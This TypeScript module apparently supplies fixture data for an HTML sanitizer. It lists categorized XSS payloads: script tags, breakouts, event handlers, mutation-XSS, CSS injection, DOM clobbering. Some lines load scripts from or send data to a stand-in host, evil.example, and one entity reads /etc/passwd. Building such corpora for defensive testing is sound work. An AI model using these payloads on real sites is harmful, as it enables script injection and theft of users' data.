/** What each text would do if it were anything but text: open a dialog, leave a mark, ask elsewhere. */
export const deeds = [
  "alert(1)",
  "top.__xss=1",
  "import('//evil.example/x.js')",
] as const;

/** Writes each text of a group with one of the deeds after the other. */
function each(texts: readonly ((deed: string) => string)[]): string[] {
  return texts.map((text, i) => text(deeds[i % deeds.length] ?? deeds[0]));
}

/** Scripts by element, written as parsers forgive. */
const scripts = each([
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<script\n>${deed}</script\t>`,
  (deed) => `<script/x>${deed}</script/y>`,
  (deed) => `<script>${deed}`,
  (deed) => `<<script>${deed}//<</script>`,
  (deed) => `<script type=module>${deed}</script>`,
  (deed) => `<script src="data:text/javascript,${deed}"></script>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><script>${deed.replace("(", "&#40;")}</script></svg>`,
  (deed) => `<math><script>${deed}</script></math>`,
  (deed) => `<template shadowrootmode=open><script>${deed}</script></template>`,
  () => "<script src=//evil.example/x.js></script>",
  () => "<script src=https:/evil.example/x.js async></script>",
  () => "<svg><script href=//evil.example/x.js /></svg>",
  () => '<script type=importmap>{"imports":{"/":"//evil.example"}}</script>',
]);

/** What may stand around a text; each is left before an image is put there. */
const exits = [
  '">',
  "'>",
  "`>",
  ">",
  "/>",
  "-->",
  "--!>",
  "]]>",
  "?>",
  "</script>",
  "</textarea>",
  "</title>",
  "</style>",
  "</noscript>",
  "</template>",
  "</iframe>",
  "</xmp>",
  "</noembed>",
  "</select>",
  "</svg>",
  "</math>",
  "</bdi></h1></header>",
  "</body></html>",
];

const escapes = each(
  exits.map((exit) => (deed) => `${exit}<img src=x onerror=${deed}>`),
);

/** Elements with the event that comes to them by itself. */
const events = each([
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `<img src=x oNeRrOr=${deed}>`,
  (deed) => `<img/src=x/onerror=${deed}>`,
  (deed) => `<img\tsrc=x\tonerror\n=\n${deed}>`,
  (deed) => `<img\fsrc=x\fonerror="${deed}"`,
  (deed) => `<img src=x onerror=${deed.replace("=", "&equals;")}//`,
  (deed) => `<img """><img src=x onerror=${deed}>">`,
  (deed) => `<image src=x onerror=${deed}>`,
  (deed) => `<svg onload=${deed}>`,
  (deed) => `<svg/onload=${deed}//`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<svg><set onbegin=${deed} attributeName=x to=1>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<body onpageshow=${deed}>`,
  (deed) => `<iframe onload=${deed}></iframe>`,
  (deed) => `<object data=x onerror=${deed}></object>`,
  (deed) => `<video><source src=x onerror=${deed}></video>`,
  (deed) => `<video src=x onloadstart=${deed}></video>`,
  (deed) => `<audio src=x onerror=${deed}></audio>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<select autofocus onfocus=${deed}></select>`,
  (deed) => `<p tabindex=0 autofocus onfocus=${deed}>`,
  (deed) => `<input type=image src=x onerror=${deed}>`,
  (deed) => `<marquee onstart=${deed}>`,
  (deed) => `<style onload=${deed}></style>`,
  (deed) => `<link rel=stylesheet href=/css/base.css onload=${deed}>`,
  (deed) => `<p class=banner onanimationstart=${deed}>`,
  (deed) => `<x ontransitionrun=${deed} style=transition:1s>`,
  (deed) => `<dialog open onclose=${deed}><form method=dialog><button>`,
  (deed) => `<input popover onbeforetoggle=${deed}><button popovertarget=x>`,
]);

/** Attributes that would be added to ours. */
const attributes = each([
  (deed) => `" onmouseover="${deed}`,
  (deed) => `' onfocus='${deed}' autofocus='`,
  (deed) => `" autofocus onfocus="${deed}" x="`,
  (deed) => `\` onpointerenter=${deed} \``,
  (deed) => ` onclick=${deed} `,
  (deed) => `"style="animation-name:x"onanimationstart="${deed}`,
  () => '" href="javascript:alert(1)',
  () => '" formaction="//evil.example" type="image" src="//evil.example/i',
  () => '" http-equiv="refresh" content="0;url=//evil.example',
]);

/** Elements that go elsewhere, or have a script for an address. */
const resources = [
  "<img src=https://evil.example/pixel.gif>",
  "<img srcset='//evil.example/1x 1x, //evil.example/2x 2x'>",
  "<picture><source srcset=//evil.example/i><img></picture>",
  "<input type=image src=//evil.example/i>",
  "<video poster=//evil.example/i></video>",
  "<video><track default src=//evil.example/t></video>",
  "<audio autoplay src=//evil.example/a></audio>",
  "<body background=//evil.example/b>",
  "<object data=//evil.example/></object>",
  "<object data=javascript:alert(1)></object>",
  "<object type=text/html data='data:text/html,<script>alert(1)</script>'>",
  "<embed src=//evil.example/x.swf>",
  "<embed src=javascript:alert(1)>",
  "<iframe src=//evil.example/></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe src=&Tab;java&NewLine;script&colon;alert(1)></iframe>",
  "<iframe src='data:text/html,<script>parent.alert(1)</script>'></iframe>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<iframe srcdoc=&lt;script&gt;top.__xss=1&lt;/script&gt;></iframe>",
  "<iframe srcdoc='<img src=x onerror=parent.alert(1)>'></iframe>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  "<base href=//evil.example/>",
  "<base target=_blank href=javascript:alert(1)//>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
  "<meta http-equiv=Content-Security-Policy content='script-src *'>",
  "<meta name=referrer content=unsafe-url><img src=//evil.example/r>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=preload as=script href=//evil.example/x.js>",
  "<link rel=prefetch href=//evil.example/p>",
  "<link rel=modulepreload href=//evil.example/m.js>",
  "<link rel=icon href=//evil.example/i>",
  "<link rel=manifest href=//evil.example/m>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<a href=javascript:alert(1)>here</a>",
  "<a href=//evil.example ping=//evil.example/p>here</a>",
  "<area href=javascript:alert(1) shape=default>",
  "<form action=//evil.example/><input name=text autofocus></form>",
  "<form action=javascript:alert(1)><button autofocus>Send</button></form>",
  "<button form=suggested formaction=javascript:alert(1)>Send</button>",
  "<input type=submit formaction=//evil.example/ value=Send>",
];

/** Foreign elements, in which other rules hold. */
const foreign = [
  "<svg><a xlink:href=javascript:alert(1)><text y=20>here</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
  "<svg><image href=//evil.example/i /></svg>",
  "<svg><use href=//evil.example/i#x /></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x' /></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></svg>",
  "<svg><filter><feImage href=//evil.example/i /></filter></svg>",
  "<svg><style>@import '//evil.example/x.css';</style></svg>",
  "<svg><discard onbegin=alert(1)></svg>",
  "<?xml-stylesheet href='javascript:alert(1)'?><svg/>",
  "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
  "<math href=javascript:alert(1)><mtext>here</mtext></math>",
  "<math><maction actiontype=statusline#//evil.example>here</maction></math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
];

/** Markup that is another after it was read and written once: what cleaners overlook. */
const mutations = [
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<svg><title><style><img src='</style><img src=x onerror=alert(1)>'>",
  "<svg><desc><style><p id='</style></svg><img src=x onerror=alert(1)>'>",
  "<table><td><svg><foreignObject><table><img src=x onerror=alert(1)>",
  "<select><template><option><img src=x onerror=alert(1)>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
  "<!--<img src=--><img src=x onerror=alert(1)//>",
  "<![CDATA[<!--]]><img src=x onerror=alert(1)>-->",
  "<img alt='`x`onerror=alert(1)//'src=x>",
  "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
];

const styles = [
  "<style>@import '//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/b)}</style>",
  "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
  "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
  "<p style=background:url(//evil.example/b)>",
  "<p style=position:fixed;inset:0;z-index:9>You are signed out.",
  "<p style=behavior:url(#default#time2) onbegin=alert(1)>",
  "<p style=width:expression(alert(1))>",
  "<p style='-moz-binding:url(//evil.example/b.xml#x)'>",
  "<link rel=stylesheet href='data:text/css,*{display:none}'>",
  "</style><style>body{display:none}",
  "{}*{background:url(//evil.example/b)}",
];

/** Names by which elements would stand in for what the page's own code asks for. */
const clobbering = [
  "<a id=__xss href=//evil.example>",
  "<a id=location href=//evil.example>",
  "<img name=body><img name=head><img name=cookie>",
  "<form name=history><input name=replaceState><input name=pushState></form>",
  "<iframe name=localStorage srcdoc=''></iframe>",
  "<form id=name name=text><input id=attributes name=value></form>",
  "<input id=name name=querySelector value=evil>",
  "<a id=visualViewport><a id=visualViewport name=height href=x>",
  "<object name=currentScript id=documentElement data=x></object>",
  "<form data-key=x role=log><input name=children><input name=nodeType></form>",
];

/** HTML that would run, load, lead elsewhere or stand in for ours, by idea. */
export const hostileMarkup = {
  scripts,
  escapes,
  events,
  attributes,
  resources,
  foreign,
  mutations,
  styles,
  clobbering,
};
